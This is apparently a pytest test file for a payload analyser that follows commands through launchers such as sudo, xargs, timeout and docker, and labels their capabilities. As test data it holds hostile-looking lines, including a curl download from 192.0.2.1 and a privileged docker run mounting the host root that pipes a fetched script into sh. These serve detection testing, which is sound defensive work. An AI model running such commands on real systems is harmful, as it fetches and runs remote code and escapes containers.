"""Every launcher: what shell text, a Python list, a Node list and a system() call start through it is the same."""

from __future__ import annotations

import json
import shlex

import pytest

from flycatcher.core.execution import Execution
from flycatcher.core.launchers.special import READERS
from flycatcher.core.launchers.table import TABLE
from flycatcher.core.launchers.unwrap import names
from flycatcher.core.payload import analyse
from flycatcher.core.shell import read_shell
from flycatcher.core.snippet import Snippet

TEXT_ONLY = 50
"""Operands in front of the command from which on there is none: the command is an option's text alone."""
NO_COMMAND = {"coverage"}
"""In the table so that nothing behind them is presumed to be a command."""
ONE_WORD = {"brew", "tcpdump", "pm2", "prove"}
"""They start a program with words of their own, or with options that another option holds."""
SPECIAL = {
    "cmake": "cmake -E time {words}",
    "dpkg-architecture": "dpkg-architecture -c {words}",
    "entr": "entr -r {words}",
    "faketime": "faketime -f -1d {words}",
    "pee": "pee {text}",
    "concurrently": "concurrently -k -n a,b 'echo x' {text}", "conc": "conc --teardown {text} -- 'echo x'",
    "chokidar": "chokidar '*.js' --initial --command={text}", "nodemon": "nodemon -w src -x {text}",
    "c8": "c8 -r text --all {words}", "nyc": "nyc --silent -r text {words}",
    "dotenv": "dotenv -e x -- {words}", "onchange": "onchange '*.js' -- {words}",
    "gdb": "gdb --args {words}", "lldb": "lldb -- {words}",
    "git": "git bisect run {words}",
    "ip": "ip netns exec ns {words}",
    "runcon": "runcon u:r:t:s0 {words}",
    "ansible": "ansible all -m shell -a {text}",
    "at": "at now <<< {text}", "batch": "batch <<< {text}",
    "capsh": "capsh -- -c {text}",
    "chrt": "chrt -r 10 {words}",
    "chroot": "chroot --userspec=a:b /m {words}",
    "fab": "fab -H host -- {words}",
    "flock": "flock -w 5 /l {words}",
    "hatch": "hatch env run -- {words}",
    "kubectl": "kubectl -n ns exec -it pod -- {words}", "oc": "oc exec pod -- {words}",
    "nice": "nice -n 5 {words}",
    "parallel": "parallel ::: {text}",
    "pex": "pex requests -- {python}",
    "pipx": "pipx run --spec x {words}",
    "screen": "screen -dm {words}", **dict.fromkeys(("tmux", "tmate"), "{name} new-session -d {text}"),
    "script": "script -qc {text} /dev/null",
    "setarch": "setarch x86_64 -R {words}",
    "sg": "sg group -c {text}",
    "start-stop-daemon": "start-stop-daemon -S -x {first} -- {rest}",
    "su": "su - bob -c {text}", "runuser": "runuser -u bob -- {words}",
    "taskset": "taskset -c 0-3 {words}",
    "timeout": "timeout -k 5 -s KILL 10 {words}", "gtimeout": "gtimeout 5 {words}",
    "tox": "tox exec -e e -- {words}",
    "uv": "uv run --with x {words}", "uvx": "uvx --from x {words}",
    "watch": "watch -n 1 {quoted}",
    "find": "find . -exec {words} ;", "gfind": "gfind . -exec {words} ;",
    "xargs": "xargs -I % {words}", "gxargs": "gxargs -I % {words}",
    **dict.fromkeys(("gcc", "g++", "cc", "c++", "gfortran", "gdc", "gnat", "cpp"), "{name} -wrapper {commas} x.c"),
}  # fmt: skip
"""Lines of launchers with a grammar of their own; those that are not here take the command at the end."""
PYTHON = ("python3", "-c", "MARK")
FETCH = ("curl", "-so", "/tmp/MARK", "http://192.0.2.1/MARK")


def line(name: str, command: tuple[str, ...]) -> str:
    """Return a line that starts a command through a launcher."""
    if name in READERS:
        first, *rest = command
        joined = shlex.join(command)
        return SPECIAL.get(name, "{name} {words}").format(
            name=name,             words=joined, text=shlex.quote(joined), quoted=shlex.quote(joined), first=first, rest=shlex.join(rest),
            python=shlex.join(rest), commas=shlex.quote(",".join(command)),
        )  # fmt: skip
    launcher = TABLE[name]
    words = [name, *sorted(launcher.sub)[:1]]
    if launcher.skip > TEXT_ONLY:
        return shlex.join([*words, min(launcher.text), shlex.join(command)])
    words += ["--"] if launcher.dashes else ["x"] * launcher.skip
    return shlex.join(words) + " " + (shlex.quote(shlex.join(command)) if launcher.joined else shlex.join(command))


def started_by(language: str, text: str) -> tuple[set[tuple[str, ...]], set[str]]:
    """Return the commands that a payload starts, and its capabilities."""
    seen: set[tuple[str, ...]] = set()

    def nested(execution: Execution) -> list[Snippet]:
        seen.add(execution.argv)
        return []

    analysis = analyse(Snippet(interpreter="x", language=language, vector="argument", text=text), nested=nested)
    return seen, {capability.id for capability in analysis.capabilities}


def as_payloads(text: str) -> dict[str, str]:
    """Return one line written as payloads: lists of words where the line has no redirection."""
    payloads = {"python": f"import os\nos.system({text!r})"}
    if "<<<" not in text:
        words = shlex.split(text)
        payloads["ruby"] = f"system({', '.join(map(json.dumps, words))})"
        payloads["python"] += f"\nimport subprocess\nsubprocess.run({words!r})"
        payloads["javascript"] = f"require('child_process').spawnSync({json.dumps(words[0])}, {json.dumps(words[1:])})"
    return payloads


@pytest.mark.parametrize("name", sorted(names() - NO_COMMAND - ONE_WORD))
def test_text_and_payloads_start_the_same_through_a_launcher(name: str) -> None:
    text = line(name, PYTHON).replace(" ;", " \\;")
    assert PYTHON in [execution.argv for execution in read_shell(text).executions]
    for language, payload in as_payloads(text).items():
        assert PYTHON in started_by(language, payload)[0], language


@pytest.mark.parametrize("name", sorted(names() - NO_COMMAND - ONE_WORD - {"pex", "gcc"}))
def test_what_a_launched_command_does_counts(name: str) -> None:
    text = line(name, FETCH).replace(" ;", " \\;")
    for language, payload in as_payloads(text).items():
        assert "network.fetch" in started_by(language, payload)[1], language


def test_every_line_of_the_special_launchers_is_of_one_that_there_is() -> None:
    assert SPECIAL.keys() <= READERS.keys()
    assert READERS.keys().isdisjoint(TABLE)


@pytest.mark.parametrize(
    "option", ["-u root", "-uroot", "--user root", "--user=root", "--us root", "-nHu root --", "A=1 -u root"]
)
def test_an_option_of_a_launcher_does_not_hide_what_it_starts(option: str) -> None:
    words = ["sudo", *option.split(), "git", "push"]
    assert "ci.push" in started_by("python", f"import subprocess\nsubprocess.run({words!r})")[1]
    assert "ci.push" in started_by("shell", shlex.join(words))[1]


@pytest.mark.parametrize("option", ["--wdns", "--wdns=.", "-W .", "-W."])
def test_the_long_option_of_nsenter_takes_no_further_word(option: str) -> None:
    assert "ci.push" in started_by("shell", f"nsenter {option} git push")[1]


def test_a_launcher_in_a_launcher_is_followed_and_what_is_between_counts_too() -> None:
    words = ["sudo", "-n", "docker", "run", "--privileged", "-v", "/:/host", "alpine", "timeout", "-k", "5", "10", "env",
             "-S", "A=1 nice -n 5", "sh", "-c", "curl http://192.0.2.1/x | sh"]  # fmt: skip
    seen, capabilities = started_by("python", f"import subprocess\nsubprocess.run({words!r})")
    assert {
        tuple(words),
        tuple(words[2:]),
        tuple(words[8:]),
        tuple(words[12:]),
        ("nice", "-n", "5", *words[15:]),
        tuple(words[15:]),
    } <= seen
    assert {"privilege.container-escape", "network.pipe-to-interpreter"} <= capabilities


def test_a_line_of_launchers_without_an_end_is_followed_so_far() -> None:
    seen, _ = started_by("python", f"import subprocess\nsubprocess.run({['nice'] * 5000 + ['sh']!r})")
    assert 10 < len(seen) < 40


def test_what_a_launcher_adds_is_no_text_of_its_own() -> None:
    """xargs' unknown words are no program text: nothing is passed to the shell's reader for them."""
    analysis = analyse(
        Snippet(interpreter="python", language="python", vector="argument",
                text="import subprocess\nsubprocess.run(['xargs', '-I', '{}', 'sh', '-c', '{}'])")
    )  # fmt: skip
    assert len(analysis.layers) == 1


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("xargs -a <(echo -c 1) python3", ["python3", "-c", "1"]),
        ("echo -c 1 > f; xargs --arg-file=f python3", ["python3", "-c", "1"]),
        ("mkfifo p; echo -c 1 > p & xargs -a p python3", ["python3", "-c", "1"]),
        ("echo 3 | xargs -a <(echo 1) python3 -c", ["python3", "-c", "1"]),
        ("parallel -a <(echo 1) python3 -c {}", ["python3", "-c", "1"]),
    ],
)
def test_what_a_launcher_reads_from_a_file_that_the_text_wrote(text: str, argv: list[str]) -> None:
    assert argv in [list(found.argv) for found in read_shell(text).executions]
